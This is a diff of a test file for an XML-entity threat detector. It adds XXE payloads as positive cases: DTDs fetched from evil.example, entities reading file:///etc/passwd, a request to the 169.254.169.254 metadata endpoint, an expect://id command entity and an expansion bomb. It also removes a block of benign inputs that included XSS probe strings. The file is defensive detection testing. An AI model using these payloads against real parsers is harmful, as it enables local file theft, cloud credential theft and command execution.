@@ -1,6 +1,6 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are those of template engines and loggers
 import { detectXmlEntities } from '../../../../../lambdas/request-guard/threats/markup/xml-entities';
-import { REFUSED, surestScore } from '../surest-detection';
+import { REFUSED, surestScore } from '../support/surest-detection';
 
 describe('declarations of XML that reach out', () => {
   it.each([
@@ -10,73 +10,13 @@ describe('declarations of XML that reach out', () => {
     '<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd">',
     '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
     '<!DOCTYPE foo PUBLIC "x" "http://evil.example/x">',
+    '<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "expect://id">]><creds><user>&xxe;</user></creds>',
+    '<!DOCTYPE a [<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;]>',
+    '<!DOCTYPE r [<!ENTITY a "x"><!ENTITY b "&a;&a;">]>',
+    '<!DOCTYPE svg [<!ENTITY x SYSTEM "http://169.254.169.254/">]><svg>&x;</svg>',
+    "<!DOCTYPE a SYSTEM 'ftp://evil.example/a.dtd'>",
+    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>',
   ])('is seen in %j', (text) => {
     expect(surestScore(detectXmlEntities, text)).toBeGreaterThanOrEqual(REFUSED);
-  });
-
-  it.each([
-    'use the <b> tag for bold text',
-    'a < b && c > d',
-    'if (a<b && c>d) then swap',
-    'List<String> names = new ArrayList<>();',
-    'Map<String, List<Integer>>',
-    'contact <user@example.com> for help',
-    '<br>',
-    '<hr/>',
-    'line one<br/>line two',
-    '<p>Hello <strong>world</strong></p>',
-    '<img src="https://example.com/a.png" alt="logo">',
-    '<a href="https://example.com">link</a>',
-    '<a href="mailto:user@example.com">mail</a>',
-    '<details><summary>More</summary>text</details>',
-    '<h1 align="center">Project</h1>',
-    '<table><tr><td>1</td></tr></table>',
-    '<ul><li>one</li><li>two</li></ul>',
-    '<div class="note">Take care</div>',
-    '<span style="color: red">red</span>',
-    'I love <3 this',
-    '->  <- arrows -> and <=> too',
-    'x <- c(1, 2, 3)',
-    'SELECT * FROM t WHERE a < 5 AND b > 3',
-    '<%= user.name %>',
-    '<!DOCTYPE html>',
-    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
-    '<?xml version="1.0" encoding="UTF-8"?><note><to>Tove</to></note>',
-    '<plist version="1.0"><dict><key>a</key></dict></plist>',
-    "Don't use <script> tags in your `index.html`, use modules.",
-    'Use `<script>alert(1)</script>` to check that the page escapes its input.',
-    'To test for XSS, enter `"><img src=x onerror=alert(1)>` in the search box and look.',
-    'O\'Brien & Sons; "quality" <since 1990>',
-    'for (let i = 0; i < 10; i++) { sum += i; }',
-    'Traceback (most recent call last): File "/app/x.py", line 3, in <module>',
-    '#include <stdio.h>',
-    'std::vector<int> v;',
-    'fn main() -> Result<(), Box<dyn Error>> {}',
-    'let x: Option<&str> = None;',
-    'template<typename T> class A {};',
-    '<T extends object>(x: T) => T',
-    '<Button onClick={() => setOpen(true)}>Open</Button>',
-    '<MyComponent prop={value} />',
-    '<template v-if="ok"><h1>Title</h1></template>',
-    '<input v-model="message">',
-    '<div th:text="${user.name}">x</div>',
-    '\ud83d\ude42 <3 >.< :-) ;-)',
-    '1 < 2',
-    '1<2',
-    'a<b',
-    '<none>',
-    '<unknown>',
-    '<anonymous>',
-    '<redacted>',
-    '<your-api-key>',
-    '<YYYY-MM-DD>',
-    'Re: [PATCH] fix <linux/foo.h> include',
-    'foo <foo@example.com>, bar <bar@example.com>',
-    '<<EOF',
-    '<template>\n  <button @click="save">Save</button>\n</template>\n<script setup>\nimport { ref } from \'vue\'\nconst x = ref(0)\n</script>\n<style scoped>\n.a { color: red }\n</style>',
-    '<html>\n<head><title>x</title><link rel="stylesheet" href="/a.css"></head>\n<body>\n<h1>Hi</h1>\n<script src="/app.js"></script>\n</body>\n</html>',
-    'Step 1:\n```html\n<script>alert(1)</script>\n```\nThen reload the page and look at it.',
-  ])('is not seen in %j', (text) => {
-    expect(surestScore(detectXmlEntities, text, { place: 'json' })).toBeLessThan(REFUSED);
   });
 });
